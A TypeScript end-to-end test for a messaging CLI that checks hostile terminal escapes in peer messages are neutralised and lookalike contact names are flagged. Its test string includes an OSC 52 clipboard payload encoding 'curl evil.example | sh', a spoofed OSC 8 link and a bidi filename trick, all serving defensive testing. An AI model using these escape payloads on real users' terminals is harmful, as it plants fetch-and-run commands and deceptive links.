/**
 * The `sotto` command and text from a hostile peer, end to end from
 * separate processes on loopback: a message full of terminal escapes
 * (OSC 0/8/52, CSI, DCS, 8-bit C1, bidi overrides) reaches `sotto history`
 * with nothing a terminal would act on, while `--json` gives the exact text;
 * and a contact added under a name that looks like another's is added, with
 * a warning naming the other, and marked in `contacts list`.
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { assertCliError, eventually, type RunningNode, sotto, startNode, tempHome, TEST_PASSPHRASE } from '../helpers/cli.ts';

const cleanup: (() => Promise<void>)[] = [];
const nodes: RunningNode[] = [];
after(async () => {
  for (const node of nodes) await node.kill().catch(() => {});
  for (const c of cleanup) await c();
});

const ESC = '\x1b';
const BEL = '\x07';
const HOSTILE = [
  `${ESC}]0;window title${BEL}`,
  `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}`,
  `click ${ESC}]8;;https://evil.example/${ESC}\\https://bank.example/${ESC}]8;;${ESC}\\`,
  `${ESC}[2J${ESC}[1;1H`,
  `${ESC}P$q${ESC}\\`,
  '\u009b2J\u009d0;c1 title\u009c',
  '\u202Egnp.exe',
  '\nsecond line',
].join(' ');

/** The bytes a terminal would act on: C0 controls but LF, DEL, C1 controls (as UTF-8), bidi controls (as UTF-8). */
function actionable(bytes: Buffer): string[] {
  const found: string[] = [];
  for (let i = 0; i < bytes.length; i++) {
    const b = bytes[i]!;
    if ((b < 0x20 && b !== 0x0a) || b === 0x7f) found.push(`byte ${b.toString(16)} at ${i}`);
    if (b === 0xc2 && bytes[i + 1]! >= 0x80 && bytes[i + 1]! <= 0x9f) found.push(`C1 U+00${bytes[i + 1]!.toString(16)} at ${i}`);
    if (b === 0xe2 && bytes[i + 1] === 0x80 && bytes[i + 2]! >= 0xaa && bytes[i + 2]! <= 0xae) found.push(`bidi at ${i}`);
    if (b === 0xe2 && bytes[i + 1] === 0x81 && bytes[i + 2]! >= 0xa6 && bytes[i + 2]! <= 0xa9) found.push(`bidi isolate at ${i}`);
  }
  return found;
}

/** The exact bytes `sotto --home HOME ...args` writes on stdout (no decoding that could hide a split byte sequence). */
function rawStdout(home: string, args: readonly string[]): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ['bin/sotto.js', '--home', home, ...args], { cwd: fileURLToPath(new URL('../..', import.meta.url)), env: { ...process.env, SOTTO_PASSPHRASE: TEST_PASSPHRASE }, stdio: ['ignore', 'pipe', 'ignore'] });
    const chunks: Buffer[] = [];
    child.stdout.on('data', (d: Buffer) => chunks.push(d));
    child.on('error', reject);
    child.on('close', () => resolve(Buffer.concat(chunks)));
  });
}

test('a hostile message reaches `sotto history` harmless and `--json` exact; a lookalike contact is flagged', { timeout: 120_000 }, async () => {
  const homeA = await tempHome('hostile-a', cleanup);
  const homeM = await tempHome('hostile-m', cleanup);
  const peerA = (await sotto(homeA, ['init', '--name', 'alice'])).stdout.trim();
  const peerM = (await sotto(homeM, ['init', '--name', 'mallory'])).stdout.trim();
  const peerB = (await sotto(await tempHome('hostile-b', cleanup), ['init', '--name', 'bob'])).stdout.trim();
  assertCliError(await sotto(await tempHome('hostile-x', cleanup), ['init', '--name', `x${ESC}]0;t${BEL}`]), /invalid contact name: it contains control characters/);

  const nodeA = await startNode(homeA, ['--listen', '/ip4/127.0.0.1/tcp/0']);
  nodes.push(nodeA);
  const nodeM = await startNode(homeM, ['--listen', '/ip4/127.0.0.1/tcp/0', '--bootstrap', nodeA.addresses[0]!]);
  nodes.push(nodeM);

  // Alice knows bob, then adds mallory under a name with a Cyrillic о: it is added, with a warning naming bob.
  assert.equal((await sotto(homeA, ['contacts', 'add', 'bob', peerB])).code, 0);
  const added = await sotto(homeA, ['contacts', 'add', 'b\u043Eb', peerM, '--json']);
  assert.equal(added.code, 0, added.stderr);
  assert.deepEqual(JSON.parse(added.stdout), { name: 'b\u043Eb', peerId: peerM, verified: false, added: true, online: true, unread: 0, confusableWith: 'bob' });
  assert.match(added.stderr, /^sotto: warning: "bоb" looks like your contact "bob"/m);
  const list = await sotto(homeA, ['contacts', 'list']);
  assert.deepEqual(list.stdout.split('\n').sort(), ['', `bob\t${peerB}\t(looks like "bоb")`, `bоb\t${peerM}\t(looks like "bob")`].sort());
  const listJson = JSON.parse((await sotto(homeA, ['contacts', 'list', '--json'])).stdout) as { name: string; confusableWith?: string }[];
  assert.deepEqual(Object.fromEntries(listJson.map((c) => [c.name, c.confusableWith])), { bob: 'b\u043Eb', 'b\u043Eb': 'bob' });
  // Names that hide or reorder text are refused, with nothing added.
  assertCliError(await sotto(homeA, ['contacts', 'add', '\u202Egnp.exe', peerM]), /invalid contact name: it contains bidirectional controls/);
  assertCliError(await sotto(homeA, ['contacts', 'add', peerB, peerM]), /invalid contact name: it is a peer id/);
  assert.equal(JSON.parse((await sotto(homeA, ['contacts', 'list', '--json'])).stdout).length, 2);

  // Mallory writes to alice.
  assert.equal((await sotto(homeM, ['contacts', 'add', 'alice', peerA])).code, 0);
  const sent = await sotto(homeM, ['send', 'alice', HOSTILE, '--wait', '20']);
  assert.equal(sent.stdout.trim(), 'delivered', sent.stdout + sent.stderr);

  await eventually(async () => (JSON.parse((await sotto(homeA, ['history', 'b\u043Eb', '--json'])).stdout) as unknown[]).length === 1, 20_000, 'the message');
  const json = await rawStdout(homeA, ['history', 'b\u043Eb', '--json']);
  assert.deepEqual(actionable(json), [], 'the JSON line itself is safe on a terminal');
  assert.equal((JSON.parse(json.toString()) as { text: string }[])[0]!.text, HOSTILE, '--json gives the exact text');

  const human = await rawStdout(homeA, ['history', 'b\u043Eb']);
  assert.deepEqual(actionable(human), [], human.toString());
  const shown = human.toString();
  for (const payload of ['window title', 'Y3VybCBl', 'evil.example', 'c1 title', '$q']) assert.ok(!shown.includes(payload), `"${payload}" is not shown`);
  assert.match(shown, /<\s+click https:\/\/bank\.example\/\s+⟨U\+202E⟩gnp\.exe \nsecond line {2}\[(received|read)\]\n$/);
});
